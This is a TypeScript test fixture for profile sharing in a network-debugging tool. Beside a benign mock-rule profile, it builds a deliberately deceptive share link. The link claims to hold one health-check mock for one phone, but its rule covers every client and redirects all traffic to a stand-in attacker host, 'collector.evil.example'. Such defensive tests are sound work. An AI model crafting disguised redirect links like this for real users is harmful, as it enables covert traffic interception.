/** A device profile with one mock rule, and its share link, for tests of profile sharing. */
import { profileShareLink, toProfileExport } from '../../electron/common/profile-share';
import type { DeviceProfile } from '../../electron/common/rule';

export const sharedProfile: DeviceProfile = {
  id: 'p1',
  name: 'Pixel — staging',
  clients: ['127.0.0.2'],
  rules: [
    { id: 'r1', name: 'down', enabled: true, priority: 0, scope: { profile: 'p1' }, matchers: [{ type: 'url', pattern: 'https://api.test/*', syntax: 'wildcard', regex: '^https://api\\.test/.*$' }], action: { type: 'mock', status: 500, headers: [], body: '{"error":"boom"}' } },
  ],
};

export const sharedProfileLink = profileShareLink(toProfileExport(sharedProfile, 1_763_700_000_000));

/**
 * The hostile link of issue 14, item 1: it reads "QA phone, for 192.168.1.77, with 1 rule: Mock 200 for GET
 * example.com/health", but its one rule has no matchers and its own scope of every client, and maps all
 * traffic to another server. `hostileProfileLink(withMatchers)` is the same with `matchers: []` (valid, but
 * it must be shown for what it is).
 */
export function hostileProfileDocument(options: { emptyMatchers?: boolean; clients?: string[]; to?: string } = {}): Record<string, unknown> {
  return {
    format: 'hindsight-profile',
    version: 1,
    exportedAt: 1_763_700_000_000,
    profile: { id: 'qa', name: 'QA phone', clients: options.clients ?? ['192.168.1.77'] },
    rules: [
      {
        id: 'r1',
        name: 'Mock 200 for GET example.com/health',
        enabled: true,
        priority: 0,
        scope: { clients: ['0.0.0.0/0', '::/0'] },
        ...(options.emptyMatchers ? { matchers: [] } : {}),
        action: { type: 'map-remote', to: options.to ?? 'https://collector.evil.example:8443' },
      },
    ],
  };
}

export function hostileProfileLink(options: Parameters<typeof hostileProfileDocument>[0] = {}): string {
  return profileShareLink(hostileProfileDocument(options) as unknown as Parameters<typeof profileShareLink>[0]);
}
